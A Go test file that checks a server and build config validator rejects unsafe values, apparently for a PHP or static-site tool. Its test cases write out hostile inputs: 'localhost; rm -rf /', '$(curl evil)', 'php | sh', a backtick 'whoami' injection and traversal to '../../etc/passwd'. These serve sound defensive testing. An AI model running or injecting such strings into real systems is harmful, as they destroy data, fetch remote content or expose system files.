package config

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestValidateServerConfig_Security(t *testing.T) {
	tests := []struct {
		name        string
		config      ServerConfig
		expectError bool
	}{
		{
			name:   "valid php server",
			config: ServerConfig{Engine: EnginePHP, Host: "localhost", Port: 3000, PHPBinary: "php"},
		},
		{
			name:   "system assigned port",
			config: ServerConfig{Engine: EngineStatic, Host: "127.0.0.1", Port: 0},
		},
		{
			name:   "absolute php binary",
			config: ServerConfig{Engine: EnginePHP, Host: "localhost", Port: 3000, PHPBinary: "/usr/bin/php8.2"},
		},
		{
			name:        "negative port",
			config:      ServerConfig{Engine: EnginePHP, Host: "localhost", Port: -1},
			expectError: true,
		},
		{
			name:        "port above range",
			config:      ServerConfig{Engine: EnginePHP, Host: "localhost", Port: 65536},
			expectError: true,
		},
		{
			name:        "unknown engine",
			config:      ServerConfig{Engine: "apache", Host: "localhost", Port: 3000},
			expectError: true,
		},
		{
			name:        "command injection in host",
			config:      ServerConfig{Engine: EnginePHP, Host: "localhost; rm -rf /", Port: 3000},
			expectError: true,
		},
		{
			name:        "subshell in php binary",
			config:      ServerConfig{Engine: EnginePHP, Host: "localhost", Port: 3000, PHPBinary: "$(curl evil)"},
			expectError: true,
		},
		{
			name:        "pipe in php binary",
			config:      ServerConfig{Engine: EnginePHP, Host: "localhost", Port: 3000, PHPBinary: "php | sh"},
			expectError: true,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := validateServerConfig(&tt.config)
			if tt.expectError {
				assert.Error(t, err)
			} else {
				assert.NoError(t, err)
			}
		})
	}
}

func TestValidateConfig_UnsafeRoots(t *testing.T) {
	tests := []struct {
		name   string
		modify func(*Config)
	}{
		{"output root is project root", func(c *Config) { c.OutputRoot = "." }},
		{"output root escapes project", func(c *Config) { c.OutputRoot = "../public" }},
		{"output root contains build root", func(c *Config) { c.OutputRoot = "src"; c.BuildRoot = "src/build" }},
		{"output root equals build root", func(c *Config) { c.OutputRoot = "build" }},
		{"absolute output root", func(c *Config) { c.OutputRoot = "/var/www" }},
		{"cache dir traversal", func(c *Config) { c.Build.CacheDir = "../../tmp" }},
		{"placeholder traversal", func(c *Config) { c.Cleanup.Placeholders = []string{"../../etc/passwd"} }},
		{"placeholder injection", func(c *Config) { c.Cleanup.Placeholders = []string{"build/`whoami`"} }},
		{"bad log format", func(c *Config) { c.Logging.Format = "xml" }},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg := Default()
			tt.modify(cfg)
			assert.Error(t, validateConfig(cfg))
		})
	}

	assert.NoError(t, validateConfig(Default()))
}
